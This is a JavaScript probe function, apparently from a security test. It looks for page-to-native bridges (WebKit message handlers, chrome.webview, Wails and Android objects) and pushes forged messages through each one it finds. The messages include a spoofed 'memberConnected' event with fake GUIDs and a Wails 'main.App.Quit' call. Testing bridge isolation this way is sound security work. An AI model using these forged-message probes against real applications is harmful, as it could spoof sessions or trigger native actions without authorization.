// Looks for a way from a page to native code, uses every way that it finds,
// and answers the list of what it found. win is the window to look at.
function probe(win, origin) {
  const found = [];
  const data = { mx: true, type: 'mx/connect/memberConnected', metadata: { user_guid: 'USR-9', session_guid: 'SES-9', member_guid: 'MBR-9' } };
  const forged = [
    JSON.stringify({ origin, source: 'self', data }),
    'C' + JSON.stringify({ name: 'main.App.Quit', args: [], callbackID: '1' }),
    'Q',
  ];
  const use = (name, target) => {
    found.push(name);
    for (const f of forged) {
      try { target.postMessage(f) } catch {}
      try { target.invoke(f) } catch {}
      try { target.post(f, origin) } catch {}
      try { target(f) } catch {}
    }
  };
  const look = (name, get) => {
    let target;
    try { target = get() } catch { return }
    if (target !== undefined && target !== null) use(name, target);
  };
  for (const h of ['connecthost', 'external', 'ipc', 'wails', 'app', 'native', 'host']) {
    look('messageHandlers.' + h, () => win.webkit.messageHandlers[h]);
    look('window.' + h, () => (h === 'external' ? win.external.invoke && win.external : win[h]));
  }
  look('webkit.messageHandlers', () => win.webkit.messageHandlers);
  look('chrome.webview', () => win.chrome.webview);
  for (const name of ['go', 'runtime', 'wails', '_wails', 'WailsInvoke', 'wailsbindings', 'ObfuscatedCall', '__webview__', 'Android']) {
    look(name, () => win[name]);
  }
  try {
    for (const name of Object.getOwnPropertyNames(win)) {
      if (/connecthost|wails|bridge/i.test(name)) found.push('property ' + name);
    }
  } catch {}
  // WebKit names these in every page; no page can make one.
  for (const name of ['UserMessageHandler', 'UserMessageHandlersNamespace', 'WebKitNamespace']) {
    look('new ' + name, () => new win[name]());
  }
  return found;
}
